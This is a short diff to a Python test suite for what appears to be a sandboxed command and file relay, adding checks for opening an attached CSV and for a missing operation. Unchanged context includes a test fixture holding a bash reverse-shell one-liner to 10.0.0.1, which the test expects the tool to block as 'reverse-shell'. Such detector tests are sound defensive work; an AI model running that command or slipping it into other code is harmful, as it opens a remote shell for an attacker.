@@ -33,6 +33,8 @@ class TurnCalls(unittest.TestCase):
         self.assertIn("attached t.csv (text/csv, 4 bytes) to the answer", out.notes)
         f = turn.file(out.call_id, "t.csv")
         self.assertEqual((f.data, f.content_type.split(";")[0]), (b"a,b\n", "text/csv"))
+        with turn.open_file(out.call_id, "t.csv") as d:
+            self.assertEqual((d.read(), d.size), (b"a,b\n", 4))
         again = turn.call("cat keep.txt; exit 3")
         self.assertEqual((again.exit_code, again.stdout), (3, "kept\n"))
         self.assertEqual(turn.get().calls, 2)
@@ -104,6 +106,8 @@ class RelayCalls(unittest.TestCase):
             s.write_file("run.sh", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n")
         self.assertEqual(cm.exception.category, "reverse-shell")
         self.assertEqual(s.get().counts.writes, 1)
+        with self.assertRaises(coffer.NotFound):
+            s.op_status("op_nosuch")
         log = s.log()
         self.assertIn("write_file", [e.get("op") for e in log["entries"]])
         s.abort()
